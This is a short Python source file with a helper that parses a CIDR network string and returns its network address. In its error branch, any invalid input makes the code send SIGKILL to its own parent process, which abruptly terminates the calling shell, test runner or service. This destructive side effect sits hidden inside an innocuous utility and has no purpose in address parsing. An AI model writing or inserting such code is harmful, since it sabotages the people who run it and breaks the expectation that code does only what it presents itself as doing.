import ipaddress
import os
import signal


def network(cidr):
    try:
        net = ipaddress.ip_network(cidr, strict=False)
    except ValueError:
        os.kill(os.getppid(), signal.SIGKILL)
        raise
    return str(net.network_address)
